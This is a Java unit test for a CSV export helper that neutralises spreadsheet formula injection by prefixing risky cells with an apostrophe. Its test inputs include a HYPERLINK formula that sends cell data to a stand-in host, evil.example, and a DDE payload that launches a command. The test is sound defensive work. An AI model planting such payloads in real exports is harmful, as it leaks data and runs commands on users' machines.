package nl.expertpool.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Issue 17, finding 4: cells typed by applicants and in interviews ran as spreadsheet formulas. */
class CsvTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1"
      })
  void aCellThatStartsAFormulaGetsAnApostrophe(String typed) {
    assertThat(Csv.cell(typed)).isEqualTo("'" + typed);
  }

  @Test
  void otherTextAndNumbersStayAsTheyAre() {
    assertThat(Csv.cell("Olena = Koval")).isEqualTo("Olena = Koval");
    assertThat(Csv.cell("")).isEqualTo("");
    assertThat(Csv.cell(null)).isNull();
    assertThat(Csv.cell(-12)).isEqualTo(-12);
    assertThat(Csv.cell(new BigDecimal("-1.5"))).isEqualTo(new BigDecimal("-1.5"));
  }

  @Test
  void theDownloadQuotesAndNeutralisesEveryRow() {
    var csv =
        Csv.download(
                "x.csv",
                List.of("name", "hours"),
                List.of(List.of("=1+1", new BigDecimal("2.5")), List.of("Amina", -1)))
            .getBody();

    assertThat(csv).isEqualTo("name,hours\r\n'=1+1,2.5\r\nAmina,-1\r\n");
  }
}
